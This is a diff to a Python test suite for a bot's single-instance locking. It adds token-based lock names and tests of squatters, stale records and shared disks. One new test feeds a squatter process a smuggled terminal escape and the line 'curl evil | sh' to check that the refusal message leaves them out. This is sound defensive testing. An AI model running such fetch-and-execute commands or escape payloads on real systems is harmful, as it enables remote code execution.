@@ -34,6 +34,7 @@ from machine.machine_lock import MachineLock, Take
 ROOT = Path(__file__).resolve().parent.parent
 TOKEN = "123456789:TEST-token-of-nobody-000000000000000"
 NOBODY = 65534
+SECRET = "SECRET"  # of a token
 WAIT = 20.0  # seconds; far beyond anything that works
 
 linux_only = pytest.mark.skipif(sys.platform != "linux", reason="needs Linux's abstract sockets and /proc")
@@ -54,7 +55,7 @@ if uid := int(sys.argv[5]):  # become another OS user, after the imports: Python
     os.setgroups([])
     os.setgid(uid)
     os.setuid(uid)
-lock = InstanceLock(folder, bot_id, name="test_bot", machine_wide="folder" not in flags)
+lock = InstanceLock(folder, f"{bot_id}:SECRET", name="test_bot", machine_wide="folder" not in flags)
 if "barrier" in flags:
     print("ready", flush=True)
     sys.stdin.readline()
@@ -99,6 +100,10 @@ os.setgid({NOBODY})
 os.setuid({NOBODY})
 print(bot_folder(42))
 """
+
+
+def token_of(bot_id: int) -> str:
+    return f"{bot_id}:{SECRET}"
 
 
 class Bot:
@@ -201,7 +206,7 @@ def test_different_bots_run_side_by_side(tmp_path: Path, bot_id: int, start: Sta
 def test_a_waiting_start_gives_up_after_its_timeout(tmp_path: Path, bot_id: int, start: Start) -> None:
     assert start(tmp_path, bot_id).line().startswith("held")
     began = time.monotonic()
-    assert not InstanceLock(tmp_path, bot_id).acquire(0.3)
+    assert not InstanceLock(tmp_path, token_of(bot_id)).acquire(0.3)
     assert 0.3 <= time.monotonic() - began < 5
 
 
@@ -220,10 +225,10 @@ def test_a_released_lock_is_free_at_once_and_its_record_is_gone(tmp_path: Path, 
 def test_one_id_in_two_folders_is_refused_by_the_machine_wide_lock(tmp_path: Path, bot_id: int, start: Start) -> None:
     first = start(tmp_path / "one", bot_id)
     assert first.line().startswith("held")
-    second = InstanceLock(tmp_path / "two", bot_id)
+    second = InstanceLock(tmp_path / "two", token_of(bot_id))
     assert not second.acquire()
     # The loser keeps nothing: its own folder's file lock is free for the next try.
-    alone = InstanceLock(tmp_path / "two", bot_id, machine_wide=False)
+    alone = InstanceLock(tmp_path / "two", token_of(bot_id), machine_wide=False)
     assert alone.acquire()
     alone.release()
 
@@ -241,7 +246,7 @@ def test_kill_9_frees_the_lock_within_a_second(tmp_path: Path, bot_id: int, star
     assert first.line().startswith("held")
     first.process.kill()
     began = time.monotonic()
-    with_lock = InstanceLock(tmp_path, bot_id)
+    with_lock = InstanceLock(tmp_path, token_of(bot_id))
     assert with_lock.acquire(WAIT)
     assert time.monotonic() - began < 1
     with_lock.release()
@@ -275,18 +280,18 @@ def test_of_eight_that_start_together_exactly_one_wins(tmp_path: Path, bot_id: i
 
 def test_the_lock_outlives_the_variable_that_held_it(tmp_path: Path, bot_id: int, start: Start) -> None:
     assert start(tmp_path, bot_id, flags="drop").line().startswith("held")
-    assert not InstanceLock(tmp_path, bot_id, machine_wide=False).acquire(0.2)
+    assert not InstanceLock(tmp_path, token_of(bot_id), machine_wide=False).acquire(0.2)
 
 
 def test_a_cancelled_wait_returns_quickly(tmp_path: Path, bot_id: int, start: Start) -> None:
     assert start(tmp_path, bot_id).line().startswith("held")
     stop_at = time.monotonic() + 0.2
-    assert not InstanceLock(tmp_path, bot_id).acquire(WAIT, cancelled=lambda: time.monotonic() > stop_at)
+    assert not InstanceLock(tmp_path, token_of(bot_id)).acquire(WAIT, cancelled=lambda: time.monotonic() > stop_at)
     assert time.monotonic() - stop_at < 1
 
 
 def test_a_start_that_is_already_cancelled_takes_nothing(tmp_path: Path, bot_id: int) -> None:
-    lock = InstanceLock(tmp_path, bot_id)
+    lock = InstanceLock(tmp_path, token_of(bot_id))
     assert not lock.acquire(WAIT, cancelled=lambda: True)
     assert not lock.held
 
@@ -305,13 +310,13 @@ def test_a_deleted_lock_file_lets_no_second_start_in_and_the_holder_locks_it_aga
     assert "was replaced" in (told := first.ask("check"))
     assert "locked again" in told
     assert first.ask("check") == "None"
-    assert not InstanceLock(tmp_path, bot_id, machine_wide=False).acquire(0.2)
+    assert not InstanceLock(tmp_path, token_of(bot_id), machine_wide=False).acquire(0.2)
 
 
 @linux_only
 def test_a_deleted_folder_is_made_and_locked_again(tmp_path: Path, bot_id: int) -> None:
     folder = tmp_path / "bot"
-    with InstanceLock(folder, bot_id) as lock:
+    with InstanceLock(folder, token_of(bot_id)) as lock:
         shutil.rmtree(folder)
         assert "was deleted" in (lock.check() or "")
         assert lock.check() is None
@@ -321,9 +326,9 @@ def test_a_deleted_folder_is_made_and_locked_again(tmp_path: Path, bot_id: int) 
 
 @linux_only
 def test_a_lock_file_that_cannot_be_locked_again_is_told_once_and_mended_later(tmp_path: Path, bot_id: int) -> None:
-    with InstanceLock(tmp_path, bot_id) as lock:
+    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
         lock.path.unlink()
-        squatter = InstanceLock(tmp_path, bot_id, machine_wide=False)
+        squatter = InstanceLock(tmp_path, token_of(bot_id), machine_wide=False)
         assert squatter.acquire()
         assert "could not be locked again" in (lock.check() or "")
         assert lock.check() is None
@@ -334,7 +339,7 @@ def test_a_lock_file_that_cannot_be_locked_again_is_told_once_and_mended_later(t
 
 @linux_only
 def test_each_deletion_of_the_lock_file_is_logged_and_the_old_file_is_let_go(tmp_path: Path, bot_id: int) -> None:
-    with InstanceLock(tmp_path, bot_id) as lock:
+    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
         for _ in range(2):
             lock.path.unlink()
             assert "was deleted" in (lock.check() or "")
@@ -352,7 +357,7 @@ def test_each_deletion_of_the_lock_file_is_logged_and_the_old_file_is_let_go(tmp
 def test_without_the_machine_wide_lock_a_lost_lock_file_stops_the_bot(
     tmp_path: Path, bot_id: int, damage: str
 ) -> None:
-    lock = InstanceLock(tmp_path, bot_id, machine_wide=False)
+    lock = InstanceLock(tmp_path, token_of(bot_id), machine_wide=False)
     assert lock.acquire()
     assert lock.check() is None
     if damage == "delete":
@@ -367,7 +372,7 @@ def test_without_the_machine_wide_lock_a_lost_lock_file_stops_the_bot(
 
 @posix_only
 def test_a_lost_lock_does_not_remove_the_record_of_its_successor(tmp_path: Path, bot_id: int, start: Start) -> None:
-    lock = InstanceLock(tmp_path, bot_id, machine_wide=False)
+    lock = InstanceLock(tmp_path, token_of(bot_id), machine_wide=False)
     assert lock.acquire()
     lock.path.unlink()
     successor = start(tmp_path, bot_id, flags="folder")
@@ -377,7 +382,7 @@ def test_a_lost_lock_does_not_remove_the_record_of_its_successor(tmp_path: Path,
 
 
 def test_the_lock_file_is_touched_once_an_hour(tmp_path: Path, bot_id: int, monkeypatch: pytest.MonkeyPatch) -> None:
-    with InstanceLock(tmp_path, bot_id) as lock:
+    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
         os.utime(lock.path, (0, 0))
         assert lock.check() is None
         assert lock.path.stat().st_mtime == 0
@@ -390,7 +395,7 @@ def test_the_lock_file_is_touched_once_an_hour(tmp_path: Path, bot_id: int, monk
 def test_left_over_files_never_block_a_start(tmp_path: Path, bot_id: int, garbage: str) -> None:
     (tmp_path / "bot.lock").write_text("4321\n", encoding="utf-8")
     (tmp_path / "holder.json").write_bytes(garbage.encode("latin-1"))
-    lock = InstanceLock(tmp_path, bot_id)
+    lock = InstanceLock(tmp_path, token_of(bot_id))
     lock.holder()
     assert lock.acquire()
     assert json.loads(lock.record_path.read_text(encoding="utf-8"))["pid"] == os.getpid()
@@ -408,7 +413,7 @@ def test_the_holder_is_named_truly_whatever_its_record_says(
     (tmp_path / "holder.json").unlink()
     if record is not None:
         (tmp_path / "holder.json").write_text(record, encoding="utf-8")
-    holder = InstanceLock(tmp_path, bot_id, machine_wide=scope == "-").holder()
+    holder = InstanceLock(tmp_path, token_of(bot_id), machine_wide=scope == "-").holder()
     assert holder is not None
     assert holder.pid == bot.pid
     assert holder.sure
@@ -419,8 +424,8 @@ def test_the_holder_is_named_truly_whatever_its_record_says(
 
 @linux_only
 def test_questions_that_fill_the_locks_queue_are_cleared_by_the_next_check(tmp_path: Path, bot_id: int) -> None:
-    asker = MachineLock(bot_id)
-    with InstanceLock(tmp_path, bot_id) as lock:
+    asker = MachineLock(bot_id, SECRET)
+    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
         asked = 0
         while asker.peer()[0] is not None:
             asked += 1
@@ -436,7 +441,7 @@ def test_nobody_is_named_when_nobody_runs(tmp_path: Path, bot_id: int, start: St
     assert bot.line().startswith("held")
     bot.kill()
     assert (tmp_path / "holder.json").exists()
-    assert InstanceLock(tmp_path, bot_id).holder() is None
+    assert InstanceLock(tmp_path, token_of(bot_id)).holder() is None
 
 
 def test_asking_for_the_holder_makes_no_start_fail(tmp_path: Path, bot_id: int) -> None:
@@ -444,13 +449,13 @@ def test_asking_for_the_holder_makes_no_start_fail(tmp_path: Path, bot_id: int) 
 
     def ask() -> None:
         while not stop.is_set():
-            InstanceLock(tmp_path, bot_id).holder()
+            InstanceLock(tmp_path, token_of(bot_id)).holder()
 
     thread = threading.Thread(target=ask)
     thread.start()
     try:
         for _ in range(100):
-            lock = InstanceLock(tmp_path, bot_id)
+            lock = InstanceLock(tmp_path, token_of(bot_id))
             assert lock.acquire()
             lock.release()
     finally:
@@ -464,9 +469,9 @@ def test_the_token_is_never_in_the_record(tmp_path: Path, bot_id: int, start: St
     raw = (tmp_path / "holder.json").read_text(encoding="utf-8")
     assert "TEST-token-of-nobody" not in raw
     assert raw.count("<token>") == 3
-    holder = InstanceLock(tmp_path, bot_id).holder()
+    holder = InstanceLock(tmp_path, token_of(bot_id)).holder()
     (tmp_path / "holder.json").unlink()
-    seen = InstanceLock(tmp_path, bot_id).holder()  # from the process itself, without the record
+    seen = InstanceLock(tmp_path, token_of(bot_id)).holder()  # from the process itself, without the record
     assert "TEST-token-of-nobody" not in repr(holder) + repr(seen)
 
 
@@ -483,10 +488,10 @@ def test_a_forked_child_that_lives_on_does_not_keep_the_lock(
     try:
         assert (word, held) == ("forked", "False")
         # The child has taken nothing from its parent either.
-        assert not InstanceLock(tmp_path, bot_id, machine_wide=scope == "-").acquire(0.2)
+        assert not InstanceLock(tmp_path, token_of(bot_id), machine_wide=scope == "-").acquire(0.2)
         assert (tmp_path / "holder.json").exists()
         bot.kill()
-        lock = InstanceLock(tmp_path, bot_id, machine_wide=scope == "-")
+        lock = InstanceLock(tmp_path, token_of(bot_id), machine_wide=scope == "-")
         assert lock.acquire(WAIT)
         lock.release()
     finally:
@@ -501,7 +506,7 @@ def test_an_executed_child_that_lives_on_does_not_keep_the_lock(tmp_path: Path, 
         if sys.platform != "win32":
             os.kill(child, signal.SIGSTOP)  # alive beyond doubt while the lock is tried
         bot.kill()
-        lock = InstanceLock(tmp_path, bot_id)
+        lock = InstanceLock(tmp_path, token_of(bot_id))
         assert lock.acquire(WAIT)
         lock.release()
     finally:
@@ -512,7 +517,7 @@ def test_an_executed_child_that_lives_on_does_not_keep_the_lock(tmp_path: Path, 
 def test_a_process_that_forked_before_can_lock(tmp_path: Path, bot_id: int) -> None:
     if sys.platform == "win32":
         pytest.skip("needs POSIX")
-    lock = InstanceLock(tmp_path, bot_id)
+    lock = InstanceLock(tmp_path, token_of(bot_id))
     assert lock.acquire()
     lock.release()
     child = os.fork()
@@ -524,7 +529,7 @@ def test_a_process_that_forked_before_can_lock(tmp_path: Path, bot_id: int) -> N
 def test_a_lock_path_that_is_a_folder_is_a_clear_error(tmp_path: Path, bot_id: int) -> None:
     (tmp_path / "bot.lock").mkdir()
     with pytest.raises(LockError, match=r"bot\.lock is a folder, not a file\..*Remove or rename it\."):
-        InstanceLock(tmp_path, bot_id).acquire()
+        InstanceLock(tmp_path, token_of(bot_id)).acquire()
 
 
 def test_a_lock_path_that_is_a_folder_is_a_refusal_where_another_copy_is_known_to_run(
@@ -533,16 +538,16 @@ def test_a_lock_path_that_is_a_folder_is_a_refusal_where_another_copy_is_known_t
     if sys.platform == "darwin":
         pytest.skip("macOS has no machine-wide lock")
     (tmp_path / "other" / "bot.lock").mkdir(parents=True)
-    with InstanceLock(tmp_path, bot_id):
-        assert not InstanceLock(tmp_path / "other", bot_id).acquire()
+    with InstanceLock(tmp_path, token_of(bot_id)):
+        assert not InstanceLock(tmp_path / "other", token_of(bot_id)).acquire()
 
 
 def test_a_refusal_knows_whether_it_came_from_the_same_folder(tmp_path: Path, bot_id: int) -> None:
-    with InstanceLock(tmp_path, bot_id):
-        same = InstanceLock(tmp_path, bot_id)
+    with InstanceLock(tmp_path, token_of(bot_id)):
+        same = InstanceLock(tmp_path, token_of(bot_id))
         assert not same.acquire()
         assert same.same_folder
-        other = InstanceLock(tmp_path / "other", bot_id)
+        other = InstanceLock(tmp_path / "other", token_of(bot_id))
         assert other.acquire() == (sys.platform == "darwin")
         assert not other.same_folder
         other.release()
@@ -550,11 +555,11 @@ def test_a_refusal_knows_whether_it_came_from_the_same_folder(tmp_path: Path, bo
 
 @linux_only
 def test_only_the_last_refusal_says_whether_it_came_from_the_same_folder(tmp_path: Path, bot_id: int) -> None:
-    late = InstanceLock(tmp_path, bot_id)
-    with InstanceLock(tmp_path, bot_id, machine_wide=False):
+    late = InstanceLock(tmp_path, token_of(bot_id))
+    with InstanceLock(tmp_path, token_of(bot_id), machine_wide=False):
         assert not late.acquire()
         assert late.same_folder
-    with InstanceLock(tmp_path / "other", bot_id):
+    with InstanceLock(tmp_path / "other", token_of(bot_id)):
         assert not late.acquire()
         assert not late.same_folder
 
@@ -562,7 +567,7 @@ def test_only_the_last_refusal_says_whether_it_came_from_the_same_folder(tmp_pat
 def test_another_thread_may_release_the_lock_and_its_file_stays_for_its_owner_only(
     tmp_path: Path, bot_id: int
 ) -> None:
-    lock = InstanceLock(tmp_path, bot_id)
+    lock = InstanceLock(tmp_path, token_of(bot_id))
     assert lock.acquire()
     thread = threading.Thread(target=lock.release)
     thread.start()
@@ -570,14 +575,14 @@ def test_another_thread_may_release_the_lock_and_its_file_stays_for_its_owner_on
     assert lock.path.exists()
     if sys.platform != "win32":
         assert lock.path.stat().st_mode & 0o777 == 0o600
-    with InstanceLock(tmp_path, bot_id):
+    with InstanceLock(tmp_path, token_of(bot_id)):
         pass
 
 
 def test_a_child_forked_while_another_thread_uses_the_lock_is_not_stuck(tmp_path: Path, bot_id: int) -> None:
     if sys.platform == "win32":
         pytest.skip("needs POSIX")
-    lock = InstanceLock(tmp_path, bot_id)
+    lock = InstanceLock(tmp_path, token_of(bot_id))
     assert lock.acquire()
     inside, done = threading.Event(), threading.Event()
 
@@ -604,7 +609,7 @@ def test_a_child_forked_while_another_thread_uses_the_lock_is_not_stuck(tmp_path
 def test_a_lock_path_that_is_a_link_is_a_clear_error_and_is_not_followed(tmp_path: Path, bot_id: int) -> None:
     (tmp_path / "bot.lock").symlink_to(tmp_path / "elsewhere")
     with pytest.raises(LockError, match=r"is a symbolic link.*Remove the link\."):
-        InstanceLock(tmp_path, bot_id).acquire()
+        InstanceLock(tmp_path, token_of(bot_id)).acquire()
     assert not (tmp_path / "elsewhere").exists()
 
 
@@ -616,11 +621,11 @@ def test_a_folder_path_that_is_a_file_is_a_clear_error(tmp_path: Path, bot_id: i
 
 def test_an_error_leaves_nothing_locked(tmp_path: Path, bot_id: int) -> None:
     (tmp_path / "bot.lock").mkdir()
-    lock = InstanceLock(tmp_path, bot_id)
+    lock = InstanceLock(tmp_path, token_of(bot_id))
     with pytest.raises(LockError):
         lock.acquire()
     assert not lock.held
-    with InstanceLock(tmp_path / "other", bot_id) as other:
+    with InstanceLock(tmp_path / "other", token_of(bot_id)) as other:
         assert other.held
 
 
@@ -659,7 +664,7 @@ def test_another_os_user_is_refused_and_told_the_holder(
 
 @linux_only
 def test_the_machine_wide_lock_is_had_by_one_until_it_is_dropped(bot_id: int) -> None:
-    one, two = MachineLock(bot_id), MachineLock(bot_id)
+    one, two = MachineLock(bot_id, SECRET), MachineLock(bot_id, SECRET)
     assert (one.take(), one.taken) == (Take.TAKEN, True)
     assert (two.take(), two.taken) == (Take.HELD_BY_ANOTHER, False)
     assert two.peer() == (os.getpid(), user_name())
@@ -670,18 +675,51 @@ def test_the_machine_wide_lock_is_had_by_one_until_it_is_dropped(bot_id: int) ->
     two.drop()
 
 
+@pytest.mark.skipif(sys.platform not in ("linux", "win32"), reason="no machine-wide lock on this system")
+def test_who_does_not_know_the_token_cannot_hold_up_a_start(tmp_path: Path, bot_id: int) -> None:
+    squatter = MachineLock(bot_id, "another secret")
+    assert squatter.take() is Take.TAKEN
+    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
+        assert lock.held
+    squatter.drop()
+
+
+SQUATTER = """
+import os, socket, sys
+os.setgroups([]); os.setgid(65534); os.setuid(65534)
+squatter = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+squatter.bind(chr(0) + sys.argv[1])
+squatter.listen()
+print(flush=True)
+sys.stdin.read()
+"""
+
+
+@root_only
 @linux_only
-def test_a_squatter_of_the_machine_wide_locks_name_is_named(tmp_path: Path, bot_id: int) -> None:
-    if sys.platform == "win32":
-        return
-    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as squatter:
-        squatter.bind(f"\0cryptosat-lock/{bot_id}")
-        squatter.listen()
-        lock = InstanceLock(tmp_path, bot_id)
+def test_a_squatter_of_another_account_is_named_by_pid_and_account_and_says_nothing_itself(
+    tmp_path: Path, bot_id: int
+) -> None:
+    name = MachineLock(bot_id, SECRET)._name  # as /proc/net/unix shows it while the bot runs
+    with subprocess.Popen(
+        [sys.executable, "-c", SQUATTER, name, "\x1b[2J\n  stop it  curl evil | sh #"],
+        env=os.environ | {"SUPERVISOR_ENABLED": "1", "SUPERVISOR_PROCESS_NAME": "evil", "pm_id": "0", "name": "evil"},
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+    ) as squatter:
+        assert squatter.stdout is not None
+        assert squatter.stdout.readline()
+        lock = InstanceLock(tmp_path, token_of(bot_id))
         assert not lock.acquire()
-        holder = lock.holder()
-    assert holder is not None
-    assert holder.pid == os.getpid()
+        message = refusal(lock.holder(), bot_id)
+        with InstanceLock(tmp_path, token_of(bot_id), machine_wide=False) as alone:  # LOCK_SCOPE=folder
+            assert alone.held
+        squatter.communicate()
+    assert f"process   pid {squatter.pid}, user {user_name(NOBODY)}, since" in message
+    assert "LOCK_SCOPE=folder" in message
+    assert "evil" not in message
+    assert "kill" not in message
+    assert message.replace("\n", "").isprintable()
 
 
 @linux_only
@@ -692,9 +730,9 @@ def test_a_holder_in_another_container_is_named_by_its_user(
     if sys.platform == "win32":
         return
     credentials = struct.pack("iII", 0, os.geteuid(), os.getegid())
-    with InstanceLock(tmp_path / "theirs", bot_id):
+    with InstanceLock(tmp_path / "theirs", token_of(bot_id)):
         monkeypatch.setattr(struct, "unpack", lambda form, _: struct.Struct(form).unpack(credentials))
-        holder = InstanceLock(tmp_path, bot_id).holder()
+        holder = InstanceLock(tmp_path, token_of(bot_id)).holder()
     assert holder == Holder(user=user_name(), sure=True)
 
 
@@ -707,9 +745,9 @@ def test_a_forbidden_machine_wide_lock_is_a_warning_and_the_file_alone_excludes(
 
     with monkeypatch.context() as sandbox, caplog.at_level(logging.WARNING):
         sandbox.setattr(socket, "socket", forbidden)
-        lock = InstanceLock(tmp_path, bot_id)
+        lock = InstanceLock(tmp_path, token_of(bot_id))
         assert lock.acquire()
-        assert MachineLock(bot_id).take() is Take.UNAVAILABLE
+        assert MachineLock(bot_id, SECRET).take() is Take.UNAVAILABLE
     assert "The machine-wide lock is not available" in caplog.text
     assert start(tmp_path, bot_id).line().startswith("refused")
     lock.path.unlink()
@@ -719,7 +757,7 @@ def test_a_forbidden_machine_wide_lock_is_a_warning_and_the_file_alone_excludes(
 
 
 def test_a_name_that_is_learnt_later_is_recorded_and_the_start_time_stays(tmp_path: Path, bot_id: int) -> None:
-    with InstanceLock(tmp_path, bot_id) as lock:
+    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
         before = lock.holder()
         lock.rename("test_bot")
         after = lock.holder()
@@ -732,7 +770,7 @@ def test_a_name_that_is_learnt_later_is_recorded_and_the_start_time_stays(tmp_pa
 
 
 def test_a_fresh_record_is_believed_and_the_first_check_completes_it(tmp_path: Path, bot_id: int) -> None:
-    with InstanceLock(tmp_path, bot_id, name="test_bot") as lock:
+    with InstanceLock(tmp_path, token_of(bot_id), name="test_bot") as lock:
         fresh = json.loads(lock.record_path.read_text(encoding="utf-8"))
         holder = lock.holder()
         assert holder is not None
@@ -746,7 +784,7 @@ def test_a_fresh_record_is_believed_and_the_first_check_completes_it(tmp_path: P
 
 def test_the_context_manager_refuses_in_words(tmp_path: Path, bot_id: int, start: Start) -> None:
     assert start(tmp_path, bot_id).line().startswith("held")
-    with pytest.raises(LockError, match="already running"), InstanceLock(tmp_path, bot_id):
+    with pytest.raises(LockError, match="already running"), InstanceLock(tmp_path, token_of(bot_id)):
         pass
 
 
@@ -813,3 +851,54 @@ def test_a_temporary_folder_made_by_somebody_else_is_not_used(shared_folder: Pat
     )
     assert run.returncode != 0
     assert "is not a private folder" in run.stderr
+
+
+# What another computer, or an earlier boot, has left in the folder is a hint: the lock decides.
+
+
+@pytest.mark.parametrize("scope", [True, False])
+@pytest.mark.parametrize("stranger", [{"host": "another-host"}, {"pid": os.getppid()}], ids=["host", "boot"])
+def test_a_record_of_another_computer_or_boot_runs_nothing_where_the_lock_is_free(
+    tmp_path: Path, bot_id: int, stranger: dict[str, object], scope: bool
+) -> None:
+    """A copied folder, or a power failure in the first half minute, when the record does not name its process yet."""
+    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
+        left = json.loads(lock.record_path.read_text(encoding="utf-8"))
+    lock.record_path.write_text(json.dumps(left | stranger), encoding="utf-8")
+    assert InstanceLock(tmp_path, token_of(bot_id), machine_wide=scope).holder() is None
+    with InstanceLock(tmp_path, token_of(bot_id), machine_wide=scope) as again:
+        assert again.held
+
+
+def test_a_record_of_another_computer_counts_while_the_lock_file_is_locked(
+    tmp_path: Path, bot_id: int, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """As on a disk that two computers share, where the kernel here names no process."""
+    monkeypatch.setattr(lock_module, "_flock_holder", lambda path: None)
+    with InstanceLock(tmp_path, token_of(bot_id), machine_wide=False) as lock:
+        told = json.loads(lock.record_path.read_text(encoding="utf-8"))
+        lock.record_path.write_text(json.dumps(told | {"host": "another-host"}), encoding="utf-8")
+        holder = InstanceLock(tmp_path, token_of(bot_id), machine_wide=False).holder()
+        assert holder is not None
+        assert (holder.host, holder.here) == ("another-host", False)
+
+
+def test_a_look_at_a_strangers_record_makes_no_start_fail(tmp_path: Path, bot_id: int) -> None:
+    """Such a look tries the lock file for an instant."""
+    record, stop = tmp_path / "holder.json", threading.Event()
+
+    def ask() -> None:
+        while not stop.is_set():
+            if not record.exists():
+                record.write_text(json.dumps({"pid": 1, "host": "another-host"}), encoding="utf-8")
+            InstanceLock(tmp_path, token_of(bot_id), machine_wide=False).holder()
+
+    thread = threading.Thread(target=ask)
+    thread.start()
+    try:
+        for _ in range(50):
+            with InstanceLock(tmp_path, token_of(bot_id), machine_wide=False):
+                pass
+    finally:
+        stop.set()
+        thread.join()
